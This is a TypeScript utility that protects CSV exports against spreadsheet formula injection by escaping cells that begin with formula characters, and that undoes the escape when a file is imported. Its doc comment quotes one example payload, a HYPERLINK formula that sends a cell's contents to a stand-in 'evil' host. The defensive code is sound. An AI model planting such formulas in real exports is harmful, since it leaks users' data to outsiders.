/**
 * Spreadsheets run a cell that starts with = + - @ (or a tab or carriage return before one) as a
 * formula, so a contact named `=HYPERLINK("http://evil/?"&A1)` in a downloaded CSV could send a
 * colleague's data away. Such cells are written with a leading apostrophe, which spreadsheets
 * show as text; `fromSpreadsheetSafe` removes it again when such a file is imported back.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function spreadsheetSafe(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** The inverse of spreadsheetSafe, for cells read from an uploaded CSV. */
export function fromSpreadsheetSafe(value: string): string {
  return value.startsWith("'") && FORMULA_START.test(value.slice(1)) ? value.slice(1) : value;
}
